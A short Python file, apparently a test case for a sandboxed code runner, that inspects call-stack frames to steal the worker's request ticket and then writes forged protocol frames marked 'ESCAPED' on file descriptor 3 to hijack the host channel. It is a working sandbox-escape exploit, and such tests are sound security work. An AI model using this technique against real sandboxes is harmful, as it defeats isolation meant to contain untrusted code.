"""Reads the host's next requests in the worker's place, and answers them with the ticket of this one."""

import os
import struct
import sys


def attack(t):
    frame = sys._getframe()
    while "ticket" not in frame.f_locals.get("request", ()):
        frame = frame.f_back
    os.read(3, 1000)
    body = frame.f_locals["request"]["ticket"] + b"v" + struct.pack("<I", 0) + b"s" + struct.pack("<I", 7) + b"ESCAPED"
    os.write(3, struct.pack(">I", 22) + body[:16] + b"v" + struct.pack("<I", 0) + b"n")
    os.write(3, struct.pack(">I", len(body)) + body)
    return 1


def later(x):
    return x
